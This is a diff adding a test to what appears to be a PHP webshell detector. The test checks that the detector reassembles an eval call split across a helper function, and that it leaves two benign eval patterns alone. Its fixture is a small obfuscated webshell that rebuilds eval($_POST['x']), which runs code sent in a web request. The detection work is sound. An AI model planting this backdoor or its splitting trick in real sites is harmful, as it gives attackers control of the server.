@@ -250,3 +250,15 @@ def test_gates_leave_plain_application_code_alone():
     big = "<?php define('X', 1); $f = 'g'; $f();" + " $a = 1;" * (phpeval.MAX_GATE_STATEMENTS + 1)
     assert not phpeval.worth_it(big)
     assert phpeval.recover(plain) == ""
+
+
+def test_code_returned_in_pieces_by_the_files_own_function_is_evaluated():
+    """eval("ev" . part() . "x']);"): the rest of the code comes from a function of the same file. Evaluating an
+    application's own method or a built-in's result is not worth it (nothing of the file's own is called)."""
+    shell = "<?php\nfunction part() { $x = \"\\$_PO\"; return \"al(\" . $x . \"ST['\"; }\neval(\"ev\" . part() . \"x']);\");"
+    assert phpeval.worth_it(shell)
+    assert "eval($_POST['x']);" in phpeval.evaluate(shell)[1]
+    assert analyse.analyse("site/d.php", shell.encode(), 10, [])["kind"] == "webshell"
+    for benign in ("<?php function render($t) { return $t; }\neval('return ' . var_export($defaults, true) . ';');",
+                   "<?php class V { function compile($s) { return $s; } function show() { eval('?>' . $this->compile($s)); } }"):
+        assert not phpeval.worth_it(benign)
